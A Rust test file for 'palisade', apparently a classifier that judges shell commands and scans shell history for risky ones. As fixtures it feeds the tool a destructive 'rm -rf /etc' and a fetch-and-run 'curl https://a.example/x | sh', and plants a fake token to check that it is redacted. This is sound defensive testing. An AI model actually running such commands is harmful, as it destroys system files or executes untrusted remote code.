//! What a person asks without a supervisor: `palisade judge` and `palisade dry-run`, by the shipped classifier.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use palisade_tests::Instance;
use palisade_tests::built::Built;
use palisade_tests::instance::{run_with_input, text};
use serde_json::{Value, json};
use std::process::{Command, Output};

/// Of an instance that was never started.
fn command(instance: &Instance, words: &[&str]) -> Command {
    let mut command = instance.command(words);
    command.current_dir(&instance.workspace).env("HOME", &instance.dir);
    command
}

fn said(instance: &Instance, words: &[&str]) -> Output {
    command(instance, words).output().unwrap()
}

fn document(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|why| panic!("{why}: {}", text(output)))
}

#[test]
fn judge_explains_and_answers_with_its_exit_code() {
    let instance = Instance::prepare(Built::release(), "");
    for (asked, code, decision) in [("ls -la", 0, "allow"), ("frobnicate", 3, "ask"), ("rm -rf /etc", 2, "deny")] {
        let output = said(&instance, &["judge", asked]);
        assert_eq!(output.status.code(), Some(code), "{}", text(&output));
        let told = String::from_utf8(output.stdout).unwrap();
        assert!(told.starts_with(decision) && told.contains(&format!("\n  {asked}\n")), "{told}");
        assert!(!told.contains('\u{1b}'), "no colour where nobody watches: {told:?}");
    }
    let told = String::from_utf8(said(&instance, &["judge", "rm -rf /etc"]).stdout).unwrap();
    for part in ["  ^^^^^^^^^^^\n", "  would    delete /etc\n", "  undo     NOT UNDOABLE: ", "  instead  "] {
        assert!(told.contains(part), "{part}: {told}");
    }
    let whole = document(&said(&instance, &["judge", "--json", "rm -rf /etc"]));
    assert_eq!((&whole["decision"], &whole["undo"]["is"]), (&json!("deny"), &json!("never")));
    assert!(whole["alternative"]["says"].is_string(), "{whole}");
}

#[test]
fn judge_keeps_the_documented_fields_first_on_every_line() {
    let instance = Instance::prepare(Built::release(), "");
    let mut judge = command(&instance, &["judge", "--jsonl"]);
    let output = run_with_input(&mut judge, b"{\"cmd\":\"ls\"}\n{\"cmd\":\"rm -rf /etc\",\"cwd\":\"/\"}\n");
    let lines = String::from_utf8(output.stdout).unwrap();
    let documented =
        ["cmd", "class", "decision", "rule", "reason", "spans", "effects", "snapshot", "alternative", "undo"];
    assert_eq!(lines.lines().count(), 2);
    for line in lines.lines() {
        let places =
            documented.map(|name| line.find(&format!("\"{name}\":")).unwrap_or_else(|| panic!("{name}: {line}")));
        assert!(places.is_sorted(), "{line}");
    }
}

#[test]
fn a_dry_run_judges_each_history_and_shows_no_secret() {
    let instance = Instance::prepare(Built::release(), "");
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let write = |name: &str, text: &[u8]| std::fs::write(instance.dir.join(name), text).unwrap();
    write(
        ".bash_history",
        format!("#1763722800\nls\n#1763722801\nls\n#1763722802\nexport TOKEN={secret}\nrm -rf /etc\n").as_bytes(),
    );
    write(".zsh_history", b": 1763722800:0;ls\n: 1763722801:0;frobnicate\\\n--now\n");
    write("fish_history", b"- cmd: curl https://a.example/x | sh\n  when: 1763722800\n");
    write("odd", b"a\0b\n\xff\xfe\nls\n");
    let here = said(&instance, &["dry-run", "--json"]);
    assert_eq!(here.status.code(), Some(0), "{}", text(&here));
    let whole = document(&here);
    assert_eq!((&whole["commands"], &whole["distinct"]), (&json!(5), &json!(3)), "{whole}");
    assert_eq!(whole["decisions"]["deny"], json!({"commands": 1, "distinct": 1}));
    assert_eq!(whole["cwd"].as_str(), instance.workspace.to_str());
    let files = ["--file", "fish_history", "--file", "odd", "--file", ".bash_history"];
    let mut all = command(&instance, &[&["dry-run", "--all"][..], &files].concat());
    let told = text(&all.current_dir(&instance.dir).output().unwrap());
    for part in ["remote.exec.pipe", "curl https://a.example/x | sh", "limit.nul", "limit.not-utf8", "export TOKEN="] {
        assert!(told.contains(part), "{part}: {told}");
    }
    assert!(!told.contains(secret) && !text(&here).contains(secret), "{told}");
    let rows = document(&said(&instance, &["dry-run", "--all", "--json"]));
    assert_eq!(rows["rows"].as_array().unwrap().len(), 3);
}
